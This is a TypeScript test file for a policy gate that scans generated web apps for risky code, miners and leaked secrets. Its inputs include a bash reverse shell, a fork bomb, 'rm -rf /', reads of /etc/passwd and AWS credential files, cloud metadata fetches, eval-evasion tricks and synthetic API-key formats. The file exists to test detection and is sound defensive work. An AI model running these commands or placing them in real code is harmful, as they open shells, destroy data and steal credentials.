import { hash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { compileRules } from '../../../core/gate/compile-rules.ts';
import { createGate } from '../../../core/gate/create-gate.ts';
import { loadPolicy } from '../../../core/gate/load-policy.ts';

const text = readFileSync(new URL('../../../policy.yaml', import.meta.url), 'utf8');
const policy = loadPolicy(text);
const gate = createGate({ policy, policySha256: hash('sha256', text) });

const frame = [
  { path: 'index.html', content: '<!doctype html><html lang="en"><title>App</title></html>' },
  { path: 'test/app.test.js', content: "import test from 'node:test';\n" },
  { path: 'lib/commands.py', content: '' },
  { path: 'api/shared.py', content: '' },
];

/** What the shipped policy finds in one file of an otherwise plain static app. */
const findingsIn = (path: string, content: string) =>
  gate({ stack: 'static', files: [...frame.filter((file) => file.path !== path), { path, content }] })
    .findings;

// Made at run time, so that this file holds nothing that looks like a secret.
const filler = (length: number) => 'Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv'.repeat(8).slice(0, length);
const join = (...parts: string[]) => parts.join('');
const sample = {
  aws: join('AK', 'IA', 'QYLPMN5HFIQR7XYZ'),
  github: join('gh', 'p_', filler(36)),
  githubFine: join('github', '_pat_', filler(40)),
  slack: join('xo', 'xb-', '123456789012-', filler(24)),
  google: join('AI', 'za', filler(35)),
  stripe: join('sk', '_live_', filler(24)),
  vercel: join('vc', 'p_', filler(30)),
  npm: join('np', 'm_', filler(36)),
  anthropic: join('sk-', 'ant-', 'api03-', filler(40)),
  openai: join('sk-', 'proj-', filler(40)),
  pem: join(
    '-----BEGIN RSA PRIVATE ',
    'KEY-----\n',
    filler(64),
    '\n',
    filler(64),
    '\n-----END RSA PRIVATE KEY-----',
  ),
  jwt: join('ey', 'J', filler(20), '.ey', 'J', filler(40), '.', filler(43)),
};

describe('the shipped policy denies', () => {
  test.each([
    ['miner', 'index.html', '<script src="lib/CoinHive.min.js"></script>'],
    ['miner', 'src/a.js', "connect('stratum+tcp://pool.test:3333')"],
    ['miner', 'src/a.js', 'new deepMiner.Init(x)'],
    ['miner-address', 'README.md', 'Runs against stratum+tcp://pool.test:3333'],
    ['miner-loop', 'src/a.js', "start({ algo: 'cryptonight' })"],
    ['host-file', 'api/a.js', "open('/proc/self/environ')"],
    ['host-file', 'api/a.py', "open('/etc/passwd')"],
    ['host-file', 'api/a.py', "open(home + '/.aws/credentials')"],
    ['secret-aws-key', 'src/a.js', `const key = '${sample.aws}';`],
    ['secret-github-token', 'README.md', sample.github],
    ['secret-github-token', 'src/a.js', `'${sample.githubFine}'`],
    ['secret-slack-token', 'src/a.css', `/* ${sample.slack} */`],
    ['secret-google-key', 'index.html', `<script>k='${sample.google}'</script>`],
    ['secret-stripe-key', 'src/a.js', `'${sample.stripe}'`],
    ['secret-vercel-token', 'src/a.js', `'${sample.vercel}'`],
    ['secret-vercel-token', 'notes.txt', `VERCEL_TOKEN=${filler(24)}`],
    ['secret-registry-token', 'notes.txt', sample.npm],
    ['secret-model-key', 'src/a.js', `'${sample.anthropic}'`],
    ['secret-model-key', 'src/a.js', `'${sample.openai}'`],
    ['secret-private-key', 'key.pem', sample.pem],
    ['secret-private-key', 'src/a.js', `const k = ${JSON.stringify(sample.pem)};`],
    ['secret-aws-secret', 'notes.txt', `aws_secret_access_key = ${filler(40)}`],
  ])('%s in %s: %s', (rule, path, content) => {
    expect(findingsIn(path, content)).toContainEqual(
      expect.objectContaining({ rule, severity: 'deny', path }),
    );
  });
});

describe('the shipped policy sends back', () => {
  test.each([
    ['shell-node', 'src/a.js', "import { exec } from 'node:child_process';"],
    ['shell-node', 'test/a.test.js', "const cp = require('child_process')"],
    ['shell-node', 'src/a.ts', 'const { spawn } = await import("child_process")'],
    ['shell-node', 'index.html', '<script type="module">import c from "node:cluster"</script>'],
    ['shell-python', 'api/a.py', 'import subprocess'],
    ['shell-python', 'api/a.py', 'import json, subprocess as s'],
    ['shell-python', 'api/a.py', 'from subprocess import run'],
    ['shell-python', 'api/a.py', "import os\nx = os . system('ls')"],
    ['shell-python', 'api/a.py', "import os\nos.execvp('sh', [])"],
    ['import-computed', 'api/a.py', "__import__('os').system('ls')"],
    ['shell-python', 'api/a.py', 'from os import path, popen'],
    ['shell-script', 'run', '#!/bin/sh\nrm -rf /'],
    ['shell-script', 'tools/run.txt', '#!/usr/bin/env bash\n'],
    ['shell-connection', 'src/a.js', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
    ['shell-connection', 'a.sh', ':(){ :|:& };:'],
    ['native-code', 'src/a.js', "process.binding('spawn_sync')"],
    ['native-code', 'api/a.py', 'import ctypes'],
    ['service-metadata', 'api/a.js', "fetch('http://169.254.169.254/latest/meta-data/')"],
    ['service-metadata', 'api/a.py', 'urlopen("http://metadata.google.internal/")'],
    ['service-metadata', 'api/a.js', "get('http://2852039166/')"],
    ['service-metadata', 'api/a.js', 'env.AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'],
    // Each of these passed while rules were patterns over text.
    ['shell-python', 'api/a.py', 'import posix'],
    ['shell-python', 'api/a.py', "import os as o\no.system('ls')"],
    ['import-computed', 'api/a.py', 'from os import *'],
    ['import-computed', 'api/a.py', "import importlib\nimportlib.import_module('subprocess')"],
    ['import-computed', 'api/a.py', "import os\ngetattr(os, 'sys' + 'tem')('ls')"],
    ['shell-python', 'api/a.py', 'import multiprocessing'],
    ['shell-python', 'api/a.py', 'if True: import pty'],
    ['shell-python', 'api/a.py', 'from os import (\n  path,\n  popen as p,\n)'],
    ['network-module', 'api/a.py', 'import urllib.request'],
    ['network-module', 'api/a.py', 'from urllib import request'],
    ['network-module', 'api/a.py', 'import urllib.error\nurllib.request.urlopen(x)'],
    ['raw-network', 'api/a.py', 'import json, socket'],
    ['file-access', 'api/a.py', "open('/etc/hostname')"],
    ['file-access', 'api/a.py', "class A:\n    def open(self): pass\nopen('/etc/hostname')"],
    ['file-access', 'api/a.py', 'from pathlib import Path'],
    ['eval-python', 'api/a.py', "import builtins\nbuiltins.eval('1')"],
    ['import-computed', 'api/a.py', 'f"{__import__(name)}"'],
    ['shell-python', 'api/a.py', 'import\nimport pty'],
    ['shell-python', 'api/a.py', '"""\\"""\n"""\nimport pty'],
    ['native-code', 'src/a.js', "process.getBuiltinModule('fs')"],
    ['native-code', 'src/a.js', "globalThis.process['getBuiltinModule']('fs')"],
    ['native-code', 'src/a.js', "import { createRequire } from 'node:module';"],
    ['environment-read', 'src/a.js', "import { env } from 'node:process';"],
    ['environment-read', 'src/a.js', 'const { env } = process;'],
    ['environment-read', 'src/a.js', '({ env } = process);'],
    ['environment-read', 'src/a.ts', '(<any>process).env.KEY; process.env.KEY'],
    ['process-control', 'src/a.ts', '(process as any).env'],
    ['process-control', 'src/a.js', 'process[name]'],
    ['process-control', 'src/a.js', 'process.kill(1)'],
    ['process-control', 'src/a.js', 'read(process)'],
    ['process-control', 'src/a.js', '{ let process = 1; }\nprocess.kill(1)'],
    ['process-control', 'src/a.js', 'f(() => { if (x) { var process = 1; } });\nprocess.kill(1)'],
    ['native-code', 'src/a.js', 'process[`binding`](1)'],
    ['import-computed', 'api/a.py', "import logging\nlogging.os.system('ls')"],
    ['import-computed', 'api/a.py', 'from logging import sys'],
    ['file-access', 'api/a.py', 'from io import open as read'],
    ['shell-python', 'api/a.py', 'from posix import system'],
    ['inline-handler', 'index.html', '<p>x<body onload=go()>'],
    ['script-address', 'index.html', '<svg><a xlink:href="javascript:go()">x</a></svg>'],
    ['network-module', 'src/a.js', "import http from 'node:http';"],
    ['network-module', 'src/a.js', "export * from 'node:dns';"],
    ['network-module', 'src/a.js', "const http = require('http')"],
    ['file-access', 'src/a.ts', "import fs = require('fs')"],
    ['import-computed', 'src/a.js', 'await import(name)'],
    ['import-computed', 'src/a.js', `await import(\`\${name}.js\`)`],
    ['import-computed', 'src/a.js', 'await import(new URL(name, import.meta.url))'],
    ['import-computed', 'src/a.js', 'require(name)'],
    ['import-computed', 'src/a.js', 'require(1)'],
    ['import-computed', 'src/a.js', 'require()'],
    ['eval-call', 'src/a.js', 'export default function () { eval(x); }'],
    ['import-computed', 'src/a.js', 'const load = require;'],
    ['import-computed', 'src/a.js', "module.require('fs')"],
    ['eval-call', 'src/a.js', 'const run = eval;'],
    ['new-function', 'src/a.js', 'Function(text)()'],
    ['page-redirect', 'index.html', '<meta content="0;url=/x" http-equiv=" Refresh">'],
    ['page-base', 'index.html', '<base href="/x/">'],
    ['page-in-page', 'index.html', '<iframe title="x" srcdoc="<p>"></iframe>'],
    ['foreign-form', 'index.html', '<form action="https://forms.test/x"></form>'],
    ['foreign-form', 'index.html', '<button formaction="\\\\forms.test\\x">x</button>'],
    ['tracker', 'index.html', '<a href="/x" ping="/seen">x</a>'],
    ['inline-handler', 'index.html', '<svg><animate onbegin="go()"/></svg>'],
    ['inline-handler', 'index.html', '<template><p onclick="go()">x</p></template>'],
    ['script-address', 'index.html', '<a href="&#106;ava\tscript:go()">x</a>'],
    ['third-party-media', 'index.html', '<img alt="" srcset="/a.png 1x, //images.test/b.png 2x">'],
    ['third-party-media', 'image.svg', '<svg><use href="https://images.test/x.svg#a"/></svg>'],
    ['third-party-link', 'index.html', '<link href="https://fonts.test/a" as="font" rel="preload">'],
    ['eval-call', 'index.html', '<p>one</p>\n<script>eval(text)</script>'],
    ['source-unreadable', 'src/a.js', 'const = ;'],
    ['source-unreadable', 'src/deep.js', '('.repeat(50_000)],
    ['source-unreadable', 'src/deep.ts', `${'<T>('.repeat(40)}x${')'.repeat(40)}`],
    ['source-unreadable', 'index.html', '<div>'.repeat(600)],
    ['source-unreadable', 'index.html', '<script>const = ;</script>'],
    ['package-not-allowed', 'src/a.js', "import React from 'react';"],
    ['package-not-allowed', 'src/a.js', "import x from '#internal';"],
    ['package-not-allowed', 'src/a.js', "import x from '@scope/name/part.js';"],
    ['package-not-allowed', 'test/a.test.js', "import { test } from 'vitest';"],
    ['package-not-allowed', 'index.html', '<script type="module">import x from "lodash"</script>'],
    ['package-not-allowed', 'api/a.py', 'import requests'],
    ['package-not-allowed', 'api/a.py', 'from flask import Flask'],
    ['path-host-file', 'vercel.json', '{ "cleanUrls": true }'],
    ['path-host-file', 'middleware.js', 'export default () => {};'],
    ['path-tool-folder', 'node_modules/less/index.cjs', ''],
    ['path-tool-folder', 'lib/Bower_Components/x.js', ''],
    ['path-tool-folder', 'site-packages/x.py', ''],
    ['path-tool-folder', '.pnp.cjs', ''],
    ['eval-call', 'src/a.js', 'const x = eval(text);'],
    ['eval-call', 'src/a.js', 'eval\n(text)'],
    ['eval-call', 'src/a.js', 'window.eval(text)'],
    ['eval-call', 'src/a.js', '(0, eval)(text)'],
    ['new-function', 'src/a.js', "new Function('a', 'return a')"],
    ['new-function', 'src/a.js', "[].constructor.constructor('return this')()"],
    ['timer-text', 'src/a.js', "setTimeout('tick()', 10)"],
    ['eval-python', 'api/a.py', 'x = eval(text)'],
    ['eval-python', 'api/a.py', '    exec(source, scope)'],
    ['remote-import', 'src/a.js', "import x from 'https://esm.sh/x';"],
    ['remote-import', 'src/a.js', "await import('//cdn.test/x.js')"],
    ['remote-import', 'index.html', '<script type="importmap">{"imports":{"x":"https://esm.sh/x"}}</script>'],
    ['import-from-text', 'src/a.js', "import('data:text/javascript,1')"],
    ['third-party-script', 'index.html', '<script defer src="https://cdn.test/x.js"></script>'],
    ['third-party-script', 'index.html', '<SCRIPT\n SRC=//cdn.test/x.js>'],
    ['third-party-link', 'index.html', '<link rel="stylesheet" href="https://fonts.test/css">'],
    ['third-party-link', 'index.html', '<link href="https://fonts.test" rel="preconnect" crossorigin>'],
    ['third-party-media', 'index.html', '<img alt="" src="https://images.test/x.png">'],
    ['third-party-style', 'style.css', "@import url('https://fonts.test/css');"],
    ['third-party-style', 'style.css', 'a { background: url(//images.test/x.png) }'],
    ['third-party-request', 'src/a.js', "await fetch('https://api.test/v1')"],
    ['third-party-request', 'src/a.js', 'new WebSocket(`wss://live.test`)'],
    ['tracker', 'index.html', '<script>gtag("config", "x")</script>'],
    ['tracker', 'src/a.js', "load('www.googletagmanager.com/gtag/js')"],
    ['inline-handler', 'index.html', '<button type="button" onclick="go()">Go</button>'],
    ['inline-handler', 'index.html', '<body onload=start()>'],
    ['script-address', 'index.html', '<a href="javascript:void(0)">x</a>'],
    ['coverage-pragma', 'src/a.js', '/* node:coverage disable */'],
    ['coverage-pragma', 'src/a.ts', '/* node:coverage ignore next 3 */'],
    ['coverage-pragma', 'src/a.jsx', '/* c8 ignore start */'],
    ['coverage-pragma', 'src/a.mjs', '// istanbul ignore else'],
    ['coverage-pragma', 'api/a.py', 'def hidden():  # pragma: no cover'],
    ['document-write', 'src/a.js', "document.write('<p>')"],
    ['file-access', 'src/a.js', "import { readFile } from 'node:fs/promises';"],
    ['raw-network', 'api/a.js', "import net from 'node:net';"],
    ['raw-network', 'api/a.py', 'import socket'],
    ['environment-read', 'api/a.js', 'const key = process.env.API_KEY;'],
    ['environment-read', 'api/a.js', 'const { KEY } = process.env;'],
    ['environment-read', 'api/a.js', "process.env['KEY']"],
    ['environment-read-python', 'api/a.py', "import os\nos.environ['KEY']"],
    ['text-direction', 'src/a.js', "if (role !== 'user\u202e') {}"],
    ['secret-signed-address', 'notes.txt', `https://a.test/b?X-Amz-Signature=${filler(64)}&x=1`],
    ['secret-json-web-token', 'src/a.js', `'${sample.jwt}'`],
    ['secret-in-address', 'notes.txt', 'postgres://admin:hunter22@db.test/app'],
    ['secret-assigned', 'src/a.js', `const config = { apiKey: '${filler(40)}' };`],
  ])('%s in %s: %s', (rule, path, content) => {
    expect(findingsIn(path, content)).toContainEqual(
      expect.objectContaining({ rule, severity: 'fix', path }),
    );
  });
});

describe('the shipped policy only warns of', () => {
  test.each([
    ['shell-path', 'src/a.js', "const shell = '/bin/bash';"],
    ['markup-from-data', 'src/a.js', `list.innerHTML = \`<b>\${name}</b>\`;`],
    ['markup-from-data', 'src/a.js', "frame['srcdoc'] = text;"],
    ['configuration-unread', 'vite.config.ts', 'export default defineConfig({ plugins: [blog()] });'],
    ['configuration-unread', 'postcss.config.cjs', 'module.exports = {};'],
  ])('%s in %s: %s', (rule, path, content) => {
    expect(findingsIn(path, content)).toEqual([expect.objectContaining({ rule, severity: 'warn', path })]);
  });
});

describe('the shipped policy finds nothing in', () => {
  test.each([
    [
      'src/a.js',
      'function f() { if (x) { var process = {}; } return process.env; } process.exitCode = a[1];',
    ],
    [
      'src/a.js',
      '(class process { a() { process.env; } }); function require(x) { return x; } require(1)(2);',
    ],
    [
      'index.html',
      '<script type="importmap"></script><script src></script><script type="importmap">{"imports":1}</script>',
    ],
    ['api/a.py', 'from lib import *\nx = 3.5e1; y: int = 1\nclass A: pass\n'],
    ['src/a.js', "const found = /x(\\d+)/.exec(text); pattern.exec('eval');"],
    ['src/a.js', "const modes = ['shell', 'miner', 'bash', 'cluster', 'fork'];"],
    ['src/a.js', 'class Shell { spawn(child) { return child.process; } }'],
    ['src/a.js', 'const retrieval = medieval(evaluate(expression));'],
    ['src/a.js', '// Never call eval() or new Function() here.'],
    ['src/a.js', 'export function evaluate(tokens) { return tokens.reduce(step); }'],
    ['src/a.js', 'parser.eval(expression); calc?.evaluate(1)'],
    ['src/a.js', 'setTimeout(() => tick(), 1000); setInterval(tick, 10);'],
    ['src/a.js', "const token = crypto.randomUUID(); const password = form.get('password');"],
    ['src/a.js', 'const accessToken = readToken(); const apiKey = undefined;'],
    ['src/a.js', "const url = new URL('https://example.com/'); link.href = url;"],
    ['src/a.js', "const ns = 'http://www.w3.org/2000/svg';"],
    ['src/a.js', "import { add } from './add.js'; import('./lazy.js');"],
    ['src/a.js', "button.addEventListener('click', onClick); node.onclick = null;"],
    ['src/a.js', 'const html = `<button type="button" data-onclick="x">`;'],
    ['src/a.js', 'if (process.env.NODE_ENV !== "production") check();'],
    ['src/a.js', 'const doc = documentWriter(document); doc.write(text);'],
    ['src/a.js', 'node.textContent = value; list.innerHTML = "";'],
    ['src/a.js', "const AKIA = 'Akia-Ito'; const asia = 'ASIA PACIFIC REGION 1';"],
    ['src/a.js', "const id = 'a3f5c9d2e8b14f7096c2d1e0a9b8c7d6e5f4a3b2';"],
    ['src/a.js', "fetch('./data.json'); fetch('/api/' + id);"],
    ['src/a.js', "const header = '-----BEGIN PRIVATE KEY-----'; text.includes(header);"],
    ['src/a.js', 'const mine = field.filter((cell) => cell.isMine); const hash = location.hash;'],
    ['src/a.js', "const ip = '169.254.1.1'; const version = '1.169.254';"],
    ['src/a.js', 'const ratio = total / bin / share; const path = "/bin/" + name;'],
    ['src/a.jsx', '<button type="button" onClick={go}>Go</button>'],
    ['src/a.css', "a { background: url('#grid'); mask: url(data:image/svg+xml;base64,AAAA) } /* eval( */"],
    ['src/a.css', '.shell, .miner { color: red } @import "./base.css";'],
    ['index.html', '<a href="https://example.com" rel="noopener">Elsewhere</a>'],
    [
      'index.html',
      '<link rel="canonical" href="https://example.com/"><link rel="icon" href="data:image/svg+xml,x">',
    ],
    ['index.html', '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"></svg>'],
    ['index.html', '<script type="module" src="./main.js"></script><link rel="stylesheet" href="style.css">'],
    ['index.html', '<label>Password <input type="password" name="password" autocomplete="off"></label>'],
    ['index.html', '<p>How miners on strike opened the shell of an oyster (onclick = magic).</p>'],
    ['index.html', '<meta property="og:image" content="https://example.com/card.png">'],
    ['index.html', '<p>once = twice</p><p data-once="x" on="1">one</p>'],
    [
      'README.md',
      'Uses child_process? No. `eval(x)`, `process.env.KEY` and subprocess.run are not used. See http://169.254.169.254.',
    ],
    ['README.md', '```sh\n#!/bin/sh\nnpm test\n```\n<script src="https://cdn.test/x.js"></script>'],
    ['README.md', 'A page on the CoinHive story and coinhive, xmrig and the like.'],
    [
      'test/a.test.js',
      "import { readFileSync } from 'node:fs';\nreadFileSync(new URL('../index.html', import.meta.url));",
    ],
    ['test/a.test.js', "assert.equal(fileName('../../etc/passwd'), 'passwd'); fileName('/etc/passwd');"],
    ['src/a.js', "const forbidden = ['../../etc/passwd'];"],
    ['test/a.test.js', "await fetch('http://127.0.0.1/'); process.env.TZ = 'UTC';"],
    ['api/a.py', 'import os, json\nmodel.eval()\nre.compile(x)\nos.path.join(a, b)'],
    ['api/a.py', 'def execute(query):\n    return evaluate(query)\n# see subprocess docs'],
    ['api/a.py', 'from lib import commands\nprint("import of subprocesses")'],
    [
      'api/a.py',
      'import os, sys, json\nfrom . import shared\nfrom .shared import x as y\nprint(os.path.join(sys.argv[0]), shared.open(1))',
    ],
    [
      'api/a.py',
      'from http.server import BaseHTTPRequestHandler\nfrom urllib.parse import parse_qs\nimport urllib.parse, asyncio',
    ],
    [
      'api/a.py',
      'def evaluate(x):\n    return x\n\ndef open(x):\n    return x\nexec = evaluate\nopen(1)\nf(compile=1)\nraise ValueError from error',
    ],
    [
      'api/a.py',
      '"""\nimport pty\n"""\n# import pty\nx = \'import pty\' \\\n  "open(1)"\ny = f"{{open}} {x}"',
    ],
    ['api/a.py', '"""\\"""\nimport pty\n"""'],
    ['api/a.py', '"""\nimport pty\n'],
    ['src/a.js', "const modules = ['child_process', 'node:cluster', 'fs']; // process.env.KEY"],
    ['src/a.js', "const shell = 'sh'; const run = 'import x from \"fs\"';"],
    [
      'src/a.js',
      'export function step(process) { return process.env; }\nclass A { process() { return this.process.kill; } }',
    ],
    [
      'src/a.js',
      'const { process: own } = state; own.kill(); try { f(); } catch (process) { process.kill(); }',
    ],
    [
      'src/a.js',
      'for (const process of list) process.kill(1); (({ process = 1, ...rest }, [module]) => process.env)(1);',
    ],
    [
      'src/a.js',
      "import process from './process.js'; process.env; process.kill(1); export { process as p };",
    ],
    [
      'src/a.js',
      "process.stdout.write('x'); process.on('exit', f); typeof process; const { argv } = process; window.name; self[name];",
    ],
    [
      'src/a.js',
      "import crypto from 'node:crypto'; import assert from 'assert/strict'; value instanceof Function; module.exports = {};",
    ],
    [
      'src/a.js',
      `const page = await import(\`./pages/\${name}.js\`); new Worker(new URL("./w.js", import.meta.url)); import(new URL("./x.js", import.meta.url));`,
    ],
    [
      'src/a.ts',
      "import type { A } from 'react'; declare const process: { env: string }; interface B { eval: string } export type C = typeof process.env; enum D { a }",
    ],
    ['src/a.tsx', 'export const View = ({ a }: { a: string }) => <p title={a}>{a as string}</p>;'],
    ['vite.config.js', "import react from '@vitejs/plugin-react';"],
    [
      'index.html',
      '<script type="importmap">{"imports":{"preact":"./vendor/preact.js"}}</script><script type="module">import { h } from "preact"; h();</script>',
    ],
    [
      'index.html',
      '<script type="importmap">{</script><script type="application/ld+json">{"@context":"https://schema.org"}</script><form action="/api/x"></form>',
    ],
    ['data/words.txt', 'shell bash miner exec spawn fork token secret password key'],
    ['data/cities.json', '{"name":"Asiago","key":"AKIATOWN","sku":"ASIA0123456789"}'],
  ])('%s: %s', (path, content) => {
    expect(findingsIn(path, content).filter((finding) => finding.severity !== 'warn')).toEqual([]);
  });
});

test('judges one line of 2 MiB that holds the words of every rule and breaks none', () => {
  const words = compileRules(policy)
    .rules.flatMap(({ shape }) => shape.literals ?? [])
    .join(' ')
    .replaceAll(/[^ -~]/g, '');
  const content = 'eval Function process ( from fetch "// document '.repeat(43_600);
  expect(findingsIn('src/long.js', content)).toEqual([
    expect.objectContaining({ rule: 'size-file', severity: 'deny' }),
  ]);
  expect(findingsIn('src/words.js', words.repeat(20))).not.toEqual([]);
});

test('every shipped rule has a fixed word to look for and a bounded length, so that the gate stays quick', () => {
  const slow = compileRules(policy).rules.filter(
    ({ shape }) => shape.literals === undefined || shape.maxLength === Number.POSITIVE_INFINITY,
  );
  expect(slow.map(({ rule }) => rule.id)).toEqual([]);
});

test('every shipped rule that denies or sends back says what to do in words of its own', () => {
  const rules = [...policy.forbidden, ...policy.secrets];
  expect(new Set(rules.map((rule) => rule.id)).size).toBe(rules.length);
  expect(rules.filter((rule) => rule.why.length < 30 || !rule.why.endsWith('.'))).toEqual([]);
});

test('recipes name the steps of each stack in order', () => {
  const steps = Object.entries(policy.stacks).map(([stack, { recipe }]) => [
    stack,
    recipe.map((step) => step.program),
  ]);
  expect(Object.fromEntries(steps)).toEqual({
    static: ['node-test', 'assemble-static', 'boot-app', 'try-checks'],
    node: ['check-types', 'node-test', 'vite-build', 'boot-app', 'try-checks'],
    python: ['python-unittest', 'assemble-python', 'boot-app', 'try-checks'],
  });
});
